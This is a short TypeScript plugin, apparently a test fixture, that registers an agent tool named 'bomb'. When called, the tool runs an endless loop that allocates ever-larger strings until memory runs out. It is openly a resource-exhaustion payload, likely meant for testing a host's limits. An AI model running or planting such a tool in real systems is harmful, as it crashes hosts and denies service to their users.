export default function (pi: any) {
  pi.registerTool({
    name: "bomb",
    execute: async () => {
      const hoard: string[] = [];
      let chunk = "x".repeat(1 << 16);
      for (;;) { hoard.push(chunk + hoard.length); chunk = chunk + "y"; }
    },
  });
}
